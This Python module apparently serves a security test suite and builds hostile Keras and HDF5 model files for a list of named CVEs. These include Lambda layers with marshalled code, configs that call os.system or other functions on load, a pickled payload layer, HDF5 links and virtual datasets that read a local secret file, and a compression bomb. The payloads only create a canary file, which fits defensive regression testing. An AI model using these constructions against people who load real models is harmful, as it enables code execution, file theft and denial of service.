"""Hostile files of Keras's own formats, and their gadgets; see ``hostile_files``."""

import base64
import io
import json
import marshal
import zipfile

import h5py
import numpy as np

from hostile_graphs import write_saved_model


def lambda_layer(canary):
    """Return the config of a Lambda layer whose marshalled code makes the canary when it is called."""
    code = compile(f"lambda x: (__import__('pathlib').Path({str(canary)!r}).touch(), x)[1]", "payload", "eval")
    (function,) = (part for part in code.co_consts if hasattr(part, "co_code"))
    text = base64.b64encode(marshal.dumps(function)).decode()
    value = {"code": text, "defaults": None, "closure": None}
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {"name": "payload", "function": {"class_name": "__lambda__", "config": value}, "arguments": {}},
    }


def sequential(*layers):
    shape = {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": shape, "registered_name": None}
    config = {"name": "model", "trainable": True, "layers": [first, *layers], "build_input_shape": [None, 4]}
    return {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": config}


def call_of(module, function, *args, wrapped=False, **kwargs):
    """Return the config of a network with a "layer" that is any function, called while the network is built."""
    gadget = {"module": module, "class_name": "function", "config": function, "registered_name": "function"}
    if wrapped:
        config = {"name": "gadget", "function": gadget, "arguments": kwargs}
        layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": config}
        layer |= {
            "build_config": {"input_shape": [None, 4]},
            "inbound_nodes": [{"args": [], "kwargs": {"inputs": args[0]}}],
        }
    else:
        layer = {**gadget, "build_config": None, "inbound_nodes": [{"args": list(args), "kwargs": kwargs}]}
    layers = {"layers": [{**layer, "name": "gadget"}], "input_layers": [], "output_layers": [["gadget", 0, 0]]}
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "config": {"name": "model", "trainable": True, **layers},
    }


def pickled_torch_layer(canary):
    import pickle

    from hostile_files import Payload

    text = base64.b64encode(pickle.dumps(Payload(canary))).decode()
    module = {"class_name": "__bytes__", "config": {"value": text}}
    config = {"name": "torch", "module": module}
    return {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None, "config": config}


def lookup_layer(secret):
    config = {"name": "lookup", "vocabulary": str(secret), "mask_token": None, "num_oov_indices": 1}
    return {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None, "config": config}


def write_keras(path, config, weights=b""):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        archive.writestr("model.weights.h5", weights or _hdf5(lambda file: file.create_group("vars")))


def write_lambda_h5(path, canary, secret):
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(
            {"class_name": "Sequential", "config": sequential(lambda_layer(canary))["config"]}
        )
        file.attrs["keras_version"], file.attrs["backend"] = "3.15.1", "tensorflow"
        file.create_group("model_weights").attrs["layer_names"] = []


def write_tfsm(path, canary, secret):
    folder = path.with_name("SavedModel")
    if not folder.exists():
        write_saved_model(folder, canary, secret)
    config = {"name": "outside", "filepath": str(folder), "call_endpoint": "serve", "call_training_endpoint": None}
    layer = {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None, "config": config}
    write_keras(path, sequential(layer))


def _hdf5(fill):
    data = io.BytesIO()
    with h5py.File(data, "w") as file:
        fill(file)
    return data.getvalue()


def fill_external_storage(file, secret):
    size = secret.stat().st_size
    file.create_dataset("layers/dense/vars/0", (size,), "u1", external=[(str(secret), 0, size)])


def _secret_hdf5(secret):
    inside = secret.with_suffix(".h5")
    with h5py.File(inside, "w") as file:
        file["layers/dense/vars/0"] = np.frombuffer(secret.read_bytes(), np.uint8)
    return inside


def fill_external_link(file, secret):
    file["layers"] = h5py.ExternalLink(str(_secret_hdf5(secret)), "layers")


def fill_soft_link(file, secret):
    file["elsewhere"] = h5py.ExternalLink(str(_secret_hdf5(secret)), "layers")
    file["layers"] = h5py.SoftLink("/elsewhere")


def fill_virtual(file, secret):
    shape = (secret.stat().st_size,)
    layout = h5py.VirtualLayout(shape=shape, dtype="u1")
    layout[:] = h5py.VirtualSource(str(_secret_hdf5(secret)), "layers/dense/vars/0", shape=shape)
    file.create_virtual_dataset("layers/dense/vars/0", layout)


def fill_bomb(file, secret):
    file.create_dataset("layers/dense/vars/0", (2**20, 2**20), "f4", chunks=(2**10, 2**10), compression="gzip")


def _h5_writer(fill):
    def write(path, canary, secret):
        with h5py.File(path, "w") as file:
            fill(file, secret)

    return write


def _keras_writer(make):
    return lambda path, canary, secret: write_keras(path, make(canary, secret))


def _with_weights(fill):
    return lambda path, canary, secret: write_keras(path, sequential(), _hdf5(lambda file: fill(file, secret)))


def load_unsafely(path):
    import keras

    model = keras.saving.load_model(path, compile=False, safe_mode=False)
    known = [layer.get_vocabulary() for layer in model.layers if hasattr(layer, "get_vocabulary")]
    return known or model(np.zeros((1, 4), np.float32))


def read_weights(path):
    """Read a weights file as h5py does, which Keras did before it checked what lies in it."""
    source = io.BytesIO(zipfile.ZipFile(path).read("model.weights.h5")) if path.suffix == ".keras" else path
    with h5py.File(source, "r") as file:
        found = file["layers/dense/vars/0"]
        return found.nbytes if found.nbytes > 2**40 else found[:].tobytes()


_NO_API = "Keras 3.15 deserializes no function that is no part of modelling, whatever safe_mode says"

ATTACKS = [
    ("CVE-2024-3660-lambda.keras", _keras_writer(lambda c, s: sequential(lambda_layer(c))), load_unsafely),
    ("CVE-2025-9905-lambda.h5", write_lambda_h5, load_unsafely),
    (
        "CVE-2025-1550-any-module.keras",
        _keras_writer(lambda c, s: call_of("os", "system", f"touch {c}")),
        load_unsafely,
        "Keras 3.15 imports no module but its own, whatever safe_mode says",
    ),
    (
        "CVE-2025-8747-get-file.keras",
        _keras_writer(
            lambda c, s: call_of(
                "keras.utils",
                "get_file",
                c.name,
                origin=s.as_uri(),
                cache_dir=str(c.parent),
                cache_subdir=".",
                wrapped=True,
            )
        ),
        load_unsafely,
        _NO_API,
    ),
    (
        "CVE-2025-9906-unsafe-load.keras",
        _keras_writer(
            lambda c, s: call_of(
                "keras.models",
                "load_model",
                str(c.with_name("CVE-2024-3660-lambda.keras")),
                safe_mode=False,
                wrapped=True,
            )
        ),
        load_unsafely,
        _NO_API,
    ),
    (
        "CVE-2025-9906-switch.keras",
        _keras_writer(lambda c, s: call_of("keras.config", "enable_unsafe_deserialization")),
        load_unsafely,
        _NO_API,
    ),
    (
        "CVE-2025-49655-torch.keras",
        _keras_writer(lambda c, s: sequential(pickled_torch_layer(c))),
        None,  # torch, which would unpickle it, is no dependency
    ),
    ("CVE-2025-12058-vocabulary.keras", _keras_writer(lambda c, s: sequential(lookup_layer(s))), load_unsafely),
    ("keras-22035-TFSMLayer.keras", write_tfsm, load_unsafely),
    ("CVE-2026-1669-external-storage.h5", _h5_writer(fill_external_storage), read_weights),
    ("CVE-2026-1669-external-storage.keras", _with_weights(fill_external_storage), read_weights),
    ("CVE-2026-1669-external-link.h5", _h5_writer(fill_external_link), read_weights),
    ("CVE-2026-1669-soft-link.h5", _h5_writer(fill_soft_link), read_weights),
    ("CVE-2026-1669-virtual.h5", _h5_writer(fill_virtual), read_weights),
    ("CVE-2026-0897-shape-bomb.h5", _h5_writer(fill_bomb), read_weights),
    ("CVE-2026-0897-shape-bomb.keras", _with_weights(fill_bomb), read_weights),
]
